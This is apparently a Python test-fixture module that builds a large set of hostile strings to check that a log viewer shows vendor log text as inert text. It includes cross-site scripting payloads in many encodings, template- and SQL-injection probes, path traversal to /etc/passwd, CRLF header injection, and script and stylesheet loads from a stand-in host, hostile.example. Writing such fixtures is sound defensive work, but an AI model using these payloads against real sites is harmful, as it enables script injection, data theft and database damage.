"""Texts that a vendor's log may hold and that must stay texts: made of parts,
so that every kind meets every place."""

# ruff: noqa: RUF001 - letters that look like others are meant

from collections.abc import Iterator
from itertools import product

CALL = "window.__ran=1"  # what each of them would do: tests look whether it was done
ELSEWHERE = "//hostile.example/x"  # where some of them would lead: tests see every request
LONGEST = 6000

_HANDLERS = (
    ("img", "src=x", "error"), ("img", 'srcset="x 1x"', "error"), ("svg", "", "load"), ("body", "", "load"),
    ("body", "", "pageshow"), ("input", "autofocus", "focus"), ("select", "autofocus tabindex=1", "focus"),
    ("details", "open", "toggle"), ("video", "src=x", "error"), ("audio", "src=x", "error"), ("object", "data=x",
    "error"),
    ("iframe", "src=/", "load"), ("link", "rel=stylesheet href=x", "error"), ("style", "", "load"),
    ("marquee", "", "start"), ("div", "style=animation:arrive", "animationstart"), ("a", "href=/ ", "mouseover"),
    ("p", "contenteditable tabindex=0", "pointerrawupdate"), ("button", "popovertarget=x", "beforetoggle"),
    ("x", "tabindex=1 autofocus", "focusin"),
)  # fmt: skip
_ESCAPES = ('"', "'", '">', "'>", "`>", "/>", "</script>", "</style>", "</title>", "</textarea>", "</noscript>",
    "-->",
            "]]>", "</a></li></ol>", "</svg>", "</template>", "\\\"", "\n\n>", "\0>", ")}")  # fmt: skip
_SCRIPTS = (
    f"<script>{CALL}</script>", f"<ScRiPt\n>{CALL}</sCrIpT >", f"<script/x>{CALL}//", f"<<script>{CALL}</script>",
    f"<script type=module>{CALL}</script>", f"<scr<script>ipt>{CALL}</script>",
    f'<script src="data:text/javascript,{CALL}"></script>', f"<script src={ELSEWHERE}.js></script>",
    f"<svg><script>{CALL}</script></svg>", f"<math><mtext><script>{CALL}</script></mtext></math>",
    f'<script type="application/json">{CALL}</script>', f"<noscript><script>{CALL}</script></noscript>",
)  # fmt: skip
_SCHEMES = ("javascript:", "JaVaScRiPt:", " javascript:", "\x01javascript:", "java\tscript:", "java\nscript:",
            "javascript&colon;", "&#106;avascript:", "vbscript:", "data:text/html,<script>",
            "view-source:javascript:",
            "blob:", "feed:javascript:", "\u2003javascript:", "javascript://x%0a")  # fmt: skip
_FRAMES = (
    "<a href='{}'>x</a>", "<iframe src='{}'>", "<form action='{}'><button autofocus>x</button></form>",
    "<button formaction='{}'>x</button>", "<svg><a xlink:href='{}'><text>x</text></a></svg>", "<embed src='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>", "<base href='{}'>", "[x]({})", "![x]({})", "<{}>",
    "<object data='{}'></object>", "<math href='{}'>x</math>",
)  # fmt: skip
_TEMPLATES = (
    "{{{{ {0} }}}}", "{{{{ 7*7 }}}}", "{{% for x in y %}}{0}", "${{{0}}}", "#{{{0}}}", "<%= {0} %>", "[[{0}]]",
    "{{{{[].at.constructor('{0}')()}}}}", "{{{{ self.__init__.__globals__ }}}}", "{{# {0} #}}", "%({0})s", "{0!r}",
    "__import__('os')",
    "$(({0}))", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y '{0}'>]>&y;", "<!--#exec cmd='{0}'-->",
)  # fmt: skip
_STYLES = (
    "}}*{{display:none}}", "x;background:url({1})", "@import '{1}.css';",
    "<style>*{{display:none!important}}</style>",
    "<style>@import '{1}.css'</style>", "<link rel=stylesheet href={1}.css>", "expression({0})",
    "<p style='position:fixed;inset:0'>", "</style><img src={1}.png>", "red;-moz-binding:url({1})",
)  # fmt: skip
_UNICODE = (
    "\u202egnp.xe\u202c turned on", "\u2066isolated\u2069", "\u2067\u202b\u202emirrored",
    "a\u200bb\u200cc\u200dd\ufeffe",
    "Z\u0351\u036b\u0343a\u0300\u0301\u0302l\u030dg\u0311o", "👩‍👩‍👧‍👦🏴\U000e0067\U000e0062\U000e007f",
    "ｓｃｒｉｐｔ＜＞＂＇",
    "\u2028" + CALL + "\u2029", "\uffff\ufffe\ufdd0", "\U0010ffff\ue000", "ﷺ" * 20, "раypаl admin",
    "\x85\x1c\x1b[31mred\x1b[0m",
    "\x00\x01\x07\x08\x0b\x0c\x7f", "𝒶𝒹𝓂𝒾𝓃", "\ud83d half a pair", "İstanbul ıI ß ﬁ", "\t\t tabs \t\t",
    " leading and trailing ",
)  # fmt: skip
_NOTHING = ("null", "None", "undefined", "NaN", "true", "false", "0", "-1", "1e309", "[object Object]", "{}", "[]",
    "\\N", "NULL",
            "(null)", "nil", "' OR 1=1 --", "'; DROP TABLE event; --", "%", "_", "*", "\\", "..", "../../etc/passwd",
            "/event/x", "?q=x&zone=y#z", ELSEWHERE, "\\\\hostile.example\\x", "=1+1", "\r\nSet-Cookie: x=y", "on",
            "&amp;", "&",
            "&lt", "a&copy=b", "+", "a b+c%20d", "%00", "%F0%9F", "-", ":", "__proto__", "constructor")  # fmt: skip


def _encoded(text: str) -> Iterator[str]:
    yield "".join(f"%{byte:02X}" for byte in text.encode())
    yield "".join(f"%25{byte:02X}" for byte in text.encode())
    yield "".join(f"&#{ord(sign)};" for sign in text)
    yield "".join(f"&#x{ord(sign):x};" for sign in text)
    yield "".join(f"\\u{ord(sign):04x}" for sign in text)
    yield "".join(f"\\x{ord(sign):02x}" for sign in text)
    yield text.replace("<", "&lt;").replace(">", "&gt;")
    yield text.replace("<", "+ADw-").replace(">", "+AD4-")
    yield text.replace("<", "\u00bc").replace(">", "\u00be")
    yield text.replace("<", "\\074").replace(">", "\\076")


def texts() -> list[str]:
    """Return every text, each once."""
    found = list(_SCRIPTS)
    for number, (tag, given, event) in enumerate(_HANDLERS):
        found += [f"<{tag} {given} on{event}={CALL}>", f'<{tag}/{given}/ON{event}="{CALL}"//']
        found.append(f"{_ESCAPES[number % len(_ESCAPES)]}<{tag} {given} on{event}='{CALL}'>")
    found += [f"{escape}{_SCRIPTS[number % 3]}" for number, escape in enumerate(_ESCAPES)]
    found += [f'x{quote}autofocus{quote} onfocus={quote}{CALL}{quote} tabindex={quote}1'
              for quote in ('" ', "' ", '"', "'", "` ", " ")]  # fmt: skip
    places = list(product(_SCHEMES, _FRAMES))[:: len(_FRAMES) // 4]
    found += [scheme + CALL for scheme in _SCHEMES] + [frame.format(scheme + CALL) for scheme, frame in places]
    found += [form.format(CALL) for form in _TEMPLATES] + [form.format(CALL, ELSEWHERE) for form in _STYLES]
    found += [*_encoded(_SCRIPTS[0]), *_UNICODE, *_NOTHING]
    found += [
        "x" * LONGEST,
        "🚢" * (LONGEST // 4),
        "so many words " * (LONGEST // 14),
        "\n" * 300 + "late",
        "<b>" * 1500,
    ]
    found += [f"**{CALL}** _x_ `y`\n> quoted\n# head", f"<http://hostile.example/{CALL}>", "| a | b |\n|---|---|"]
    return list(dict.fromkeys(found))
